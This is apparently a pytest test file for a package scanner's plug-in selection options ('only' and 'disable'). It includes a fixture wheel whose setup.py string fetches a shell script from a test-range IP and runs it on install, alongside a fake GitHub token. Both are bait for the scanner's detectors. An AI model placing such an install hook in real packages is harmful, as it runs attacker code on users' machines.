"""``only``: run a chosen set of plug-ins (the complement of ``disable``)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zlib
from pathlib import Path

import pytest

from builders import write, zip_bytes
from finalexam.analyze import ANALYZERS
from finalexam.analyze.secrets.validate import base62_encode
from finalexam.config import OPTIONS_BY_KEY, Config, build_config
from finalexam.diffing.content import ContentStore, capture_factory
from finalexam.errors import ConfigError
from finalexam.exam import run_exam
from schema import assert_valid_report

BODY = "Q7vLx2Rk9TzP4mWn8YcB3dFh6JsA1e"
TOKEN = "ghp_" + BODY + base62_encode(zlib.crc32(BODY.encode()))
SETUP = """
import os, urllib.request
from setuptools import setup
urllib.request.urlretrieve("http://203.0.113.9/payload.sh", "/tmp/p.sh")
os.system("sh /tmp/p.sh")
setup(name="app", version="1.0")
"""


@pytest.fixture
def wheel(tmp_path: Path) -> Path:
    return write(
        tmp_path / "app-1.0-py3-none-any.whl",
        zip_bytes(
            {
                "app/__init__.py": f"GITHUB = {TOKEN!r}\n",
                "app/setup.py": SETUP,
                "app-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: app\nVersion: 1.0\n",
            }
        ),
    )


def test_only_runs_the_named_plugins_and_reports_the_rest_skipped(wheel: Path) -> None:
    full = run_exam(wheel, Config())
    only = run_exam(wheel, Config(only=("secrets",)))
    assert {f.found_by for f in full.findings} > {"secrets"}
    assert {f.found_by for f in only.findings} == {"secrets"}
    assert only.findings == tuple(f for f in full.findings if f.found_by == "secrets")
    assert full.components and not only.components
    status = {p.name: (p.kind, p.status, p.detail) for p in only.plugins}
    assert status["secrets"][1] == "ok"
    assert status["behavior"] == ("analyzer", "skipped", "not selected (only)")
    assert status["python"] == ("cataloger", "skipped", "not selected (only)")


def test_only_and_disable_together(wheel: Path) -> None:
    report = run_exam(wheel, Config(only=("secrets", "python"), disable=("secrets",)))
    assert not report.findings and report.components
    status = {p.name: (p.status, p.detail) for p in report.plugins}
    assert status["secrets"] == ("skipped", "disabled")
    assert status["python"] == ("ok", None)


def test_only_with_an_unknown_name_is_a_config_error(wheel: Path) -> None:
    with pytest.raises(ConfigError, match=r"only: no plug-in named 'secret' \(plug-ins: .*secrets"):
        run_exam(wheel, Config(only=("secret",)))


def test_disable_with_an_unknown_name_is_a_config_error(wheel: Path) -> None:
    with pytest.raises(ConfigError, match=r"disable: no plug-in named 'secret' \(plug-ins: .*"):
        run_exam(wheel, Config(disable=("secret",)))
    # a real analyzer is a valid name even where the command runs no analyzer (sbom)
    report = run_exam(wheel, Config(disable=("secrets",)), analyzers=())
    assert report.components


def test_disable_with_an_unknown_name_exits_2_from_the_cli(
    wheel: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from finalexam.cli import main

    assert main(["scan", str(wheel), "--disable", "behaviour"]) == 2
    err = capsys.readouterr().err
    assert "disable: no plug-in named 'behaviour'" in err and "Traceback" not in err


def test_only_keeps_what_the_exam_itself_needs(wheel: Path) -> None:
    store = ContentStore()
    report = run_exam(
        wheel, Config(only=("secrets",)), analyzers=(*ANALYZERS, capture_factory(store))
    )
    assert store.blobs  # the release diff's content capture ran
    assert {f.found_by for f in report.findings} == {"secrets"}


def test_only_in_parallel_gives_the_same_report(wheel: Path) -> None:
    inline = run_exam(wheel, Config(only=("secrets", "behavior")))
    parallel = run_exam(wheel, Config(only=("secrets", "behavior"), jobs=2))
    assert inline.findings == parallel.findings
    assert {f.found_by for f in parallel.findings} == {"secrets", "behavior"}


def test_only_from_config_file_and_environment(tmp_path: Path) -> None:
    assert OPTIONS_BY_KEY["only"].env == "FINALEXAM_ONLY"
    (tmp_path / "finalexam.toml").write_text('only = ["secrets", "python"]\n')
    assert build_config(cwd=tmp_path, environ={}).only == ("secrets", "python")
    from_env = build_config(cwd=tmp_path, environ={"FINALEXAM_ONLY": "secrets"})
    assert from_env.only == ("secrets",)
    assert not from_env.runs("behavior") and from_env.runs("secrets")


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "finalexam", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "FINALEXAM_CONFIG": os.devnull},
        check=False,
    )


def test_cli_only_flag(wheel: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.json"
    result = run_cli("scan", str(wheel), "--only", "secrets", "-o", f"json={out}")
    document = json.loads(out.read_text())
    assert_valid_report(document)
    assert result.returncode == 1  # the GitHub token fails the default policy
    assert {f["found_by"] for f in document["findings"]} == {"secrets"}
    assert "vulnerability database" not in result.stderr  # the vulnerability check is off
    bad = run_cli("scan", str(wheel), "--only", "secretz")
    assert bad.returncode == 2
    assert bad.stderr.startswith("finalexam: error: only: no plug-in named 'secretz'")
    assert "Traceback" not in bad.stderr
